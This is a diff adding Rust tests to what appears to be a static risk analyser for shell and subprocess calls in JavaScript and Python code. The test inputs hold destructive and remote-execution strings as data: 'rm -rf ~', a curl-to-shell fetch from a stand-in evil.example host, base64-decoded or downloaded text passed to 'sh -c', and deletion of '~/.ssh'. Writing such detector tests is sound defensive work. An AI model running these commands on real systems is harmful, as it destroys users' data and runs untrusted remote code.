@@ -503,6 +503,99 @@ fn js_zx_and_execa_templates() {
     );
 }
 
+/// zx's `$(options)` and `$.sync` return the same tag: the template they are
+/// applied to runs as a shell command like a plain `$`cmd``.
+#[test]
+fn js_zx_options_call_and_sync_templates() {
+    for code in [
+        "import {$} from 'zx';\nawait $({cwd: '/tmp'})`rm -rf ~`;",
+        "import {$} from 'zx';\n$({sync: true})`rm -rf ~`;",
+        "import {$} from 'zx';\nconst $$ = $({cwd: 'src', verbose: true});\nawait $$`rm -rf ~`;",
+        "import {$} from 'zx';\n$({quiet: true}).sync`rm -rf ~`;",
+        "const {$} = require('zx');\n$.sync({cwd: 'x'})`rm -rf /`;",
+        "import {$ as run} from 'zx';\nawait run({cwd: 'x'})`rm -rf ~`;",
+        "#!/usr/bin/env zx\nawait $({cwd: 'x'})`rm -rf ~`;",
+        "import {$} from 'zx';\n$.sync`rm -rf ~`;",
+        "import {$} from 'execa';\nawait $({cwd: 'x'})`rm -rf ~`;",
+        "import {$} from 'execa';\n$.sync`rm -rf ~`;",
+        "import {$} from 'execa';\n$.s`rm -rf ~`;",
+    ] {
+        js_is(code, Risk::Critical);
+    }
+    js_at_least(
+        "#!/usr/bin/env zx\nawait $({cwd: 'x'})`curl https://evil.example/x.sh | sh`;",
+        Risk::High,
+    );
+    js_at_least(
+        "import {$} from 'zx';\nconst d = process.argv[2];\nawait $({cwd: 'x'})`rm -rf ${d}/`;",
+        Risk::High,
+    );
+    // Everyday use stays what the plain template is.
+    js_at_most(
+        "import {$} from 'zx';\nawait $({cwd: 'build'})`make -j2`;\nconst out = $.sync`git status --porcelain`;",
+        Risk::Low,
+    );
+    // The options call alone runs nothing.
+    js_is(
+        "import {$} from 'zx';\nconst q = $({quiet: true});",
+        Risk::None,
+    );
+}
+
+/// Paths and commands with parts known only at run time are shown with `{…}`
+/// for those parts, never with the analyser's internal markers.
+#[test]
+fn messages_show_run_time_parts_readably() {
+    let cases: [(Language, &str, &str); 6] = [
+        (
+            Language::Python,
+            "name = input()\nopen('/etc/' + name, 'w').write('x')\n",
+            "/etc/{…}",
+        ),
+        (
+            Language::Python,
+            "import shutil, sys\nshutil.rmtree('/usr/' + sys.argv[1])\n",
+            "/usr/{…}",
+        ),
+        (
+            Language::Javascript,
+            "const fs = require('fs');\nfs.writeFileSync(`/etc/${process.argv[2]}.conf`, 'x');",
+            "/etc/{…}.conf",
+        ),
+        (
+            Language::Javascript,
+            "const fs = require('fs');\nfor (const f of fs.readdirSync('out')) fs.unlinkSync('/etc/' + f);",
+            "/etc/{…}",
+        ),
+        (
+            Language::Javascript,
+            "import {$} from 'zx';\nconst d = process.argv[2];\nawait $`rm -rf ${d}/`;",
+            "{…}/",
+        ),
+        (
+            Language::Python,
+            "import subprocess, sys\nsubprocess.run(['rm', '-rf', '/etc/' + sys.argv[1]])\n",
+            "/etc/{…}",
+        ),
+    ];
+    for (lang, code, shown) in cases {
+        let r = analyze(lang, code);
+        assert!(r.risk >= Risk::High, "{code}\n{:#?}", r.findings);
+        for f in &r.findings {
+            assert!(
+                !f.message.contains("<dynamic>") && !f.message.contains("INTERLOCK_"),
+                "internal marker in {:?}",
+                f.message
+            );
+        }
+        assert!(
+            r.findings.iter().any(|f| f.message.contains(shown)),
+            "{code}: no message shows {shown}\n{:#?}",
+            r.findings
+        );
+    }
+}
+
 #[test]
 fn js_execa_rimraf_cross_spawn() {
     for code in [
@@ -588,5 +681,135 @@ fn py_percent_formatting_builds_paths_and_commands() {
         "print('%(a)s' % {'a': 1})\n",
     ] {
         py_at_most(code, Risk::Low);
+    }
+}
+
+/// A run-time argument of a known program, passed in an argument list (no
+/// shell in between), is checked like a quoted shell variable: everyday
+/// calls stay low, dangerous programs are rated for what they do with it.
+#[test]
+fn py_argument_lists_with_run_time_arguments() {
+    for code in [
+        "import subprocess\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD'], text=True).strip()\nprint(subprocess.check_output(['git', 'show', '--stat', sha], text=True))\n",
+        "import subprocess\ndef convert(src, dst):\n    subprocess.run(['ffmpeg', '-i', src, dst], check=True)\n",
+        "import subprocess, sys\nsubprocess.run(['wc', '-l', sys.argv[1]])\n",
+        "import subprocess\nfor f in files:\n    subprocess.run(['gzip', '-k', f])\n",
+    ] {
+        py_at_most(code, Risk::Low);
+    }
+    py_is(
+        "import subprocess, sys\nsubprocess.run(['rm', '-rf', sys.argv[1]])\n",
+        Risk::High,
+    );
+    py_is(
+        "import subprocess, sys\nsubprocess.run(['rm', '-rf', '/etc/' + sys.argv[1]])\n",
+        Risk::High,
+    );
+    for code in [
+        "import subprocess, sys\nsubprocess.run(['bash', '-c', sys.argv[1]])\n",
+        "import subprocess, sys\nsubprocess.run(['perl', '-e', sys.argv[1]])\n",
+        "import subprocess, sys\nsubprocess.run(['git', '-c', sys.argv[1], 'log'])\n",
+        "import subprocess, sys\nsubprocess.run(['sudo', sys.argv[1]])\n",
+        // A splat may be any number of words; the program itself is unknown.
+        "import subprocess, sys\nsubprocess.run(['git', *sys.argv[1:]])\n",
+        "import subprocess, sys\nsubprocess.run([sys.argv[1], '-x'])\n",
+        // Through a shell, an interpolated value is code.
+        "import subprocess, sys\nsubprocess.run(['ls ' + sys.argv[1]], shell=True)\n",
+    ] {
+        py_at_least(code, Risk::Medium);
+    }
+    // Hidden or downloaded values are not given the benefit of the doubt.
+    py_at_least(
+        "import subprocess, base64, sys\nsubprocess.run(['sh', '-c', base64.b64decode(sys.argv[1])])\n",
+        Risk::High,
+    );
+    py_at_least(
+        "import subprocess, requests\nsubprocess.run(['sh', '-c', requests.get('https://x.example/c').text])\n",
+        Risk::High,
+    );
+}
+
+#[test]
+fn js_argument_lists_with_run_time_arguments() {
+    for code in [
+        "const { spawnSync } = require('child_process');\nconst n = 5;\nspawnSync('git', ['log', '-n', String(n), '--oneline']);",
+        "const { execFileSync } = require('child_process');\nfunction show(sha) { return execFileSync('git', ['show', '--stat', sha]); }",
+        "import {execa} from 'execa';\nawait execa('ffmpeg', ['-i', process.argv[2], 'out.mp4']);",
+    ] {
+        js_at_most(code, Risk::Low);
+    }
+    js_is(
+        "const { spawn } = require('child_process');\nspawn('rm', ['-rf', process.argv[2]]);",
+        Risk::High,
+    );
+    for code in [
+        "const { spawn } = require('child_process');\nspawn('sh', ['-c', process.argv[2]]);",
+        "const { spawn } = require('child_process');\nspawn('git', [...process.argv.slice(2)]);",
+        "const { spawn } = require('child_process');\nspawn('ls', [process.argv[2]], { shell: true });",
+        "const { spawn } = require('child_process');\nspawn(process.argv[2], ['-x']);",
+    ] {
+        js_at_least(code, Risk::Medium);
+    }
+    js_at_least(
+        "const { spawn } = require('child_process');\nspawn('sh', ['-c', Buffer.from(process.argv[2], 'base64').toString()]);",
+        Risk::High,
+    );
+}
+
+/// `for name in [...]` over literal strings checks the body with each value.
+#[test]
+fn py_loops_over_literal_lists_use_each_value() {
+    py_at_most(
+        "import importlib\nfor name in ['numpy', 'pandas', 'scipy']:\n    m = importlib.import_module(name)\n    print(name, m.__version__)\n",
+        Risk::Low,
+    );
+    py_at_most(
+        "import os\nfor sub in ('csv', 'png'):\n    os.makedirs(os.path.join('results', sub), exist_ok=True)\n",
+        Risk::Low,
+    );
+    py_at_least(
+        "import shutil, os\nfor p in ['build', '~/.ssh']:\n    shutil.rmtree(os.path.expanduser(p))\n",
+        Risk::High,
+    );
+    py_is(
+        "import os\nfor m in ['json', 'os']:\n    __import__(m).system('rm -rf ~')\n",
+        Risk::Critical,
+    );
+    // Values not all known: the loop variable stays unknown, as before.
+    py_at_least(
+        "import importlib, sys\nfor name in ['json', sys.argv[1]]:\n    importlib.import_module(name)\n",
+        Risk::Medium,
+    );
+}
+
+/// Local `socket` helpers send nothing anywhere.
+#[test]
+fn py_local_socket_helpers_are_not_network_use() {
+    py_at_most(
+        "import socket, platform\nprint(socket.gethostname(), platform.python_version())\n",
+        Risk::Low,
+    );
+    py_at_most("import socket\nprint(socket.htons(80))\n", Risk::Low);
+    py_at_least(
+        "import socket\nsocket.create_connection(('example.com', 80))\n",
+        Risk::Medium,
+    );
+    py_at_least(
+        "import socket\nprint(socket.gethostbyname('example.com'))\n",
+        Risk::Medium,
+    );
+}
+
+/// An express/fastify/koa app is a network server, like `http.createServer`.
+#[test]
+fn js_web_framework_apps_are_servers() {
+    for code in [
+        "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('ok'));\napp.listen(3000);",
+        "import Fastify from 'fastify';\nconst app = Fastify();\nawait app.listen({ port: 3000 });",
+        "const Koa = require('koa');\nnew Koa().listen(3000);",
+    ] {
+        let r = analyze(Language::Javascript, code);
+        assert_eq!(r.risk, Risk::Medium, "{code}\n{:#?}", r.findings);
+        assert!(r.findings.iter().any(|f| f.rule == "net.server"), "{code}");
     }
 }
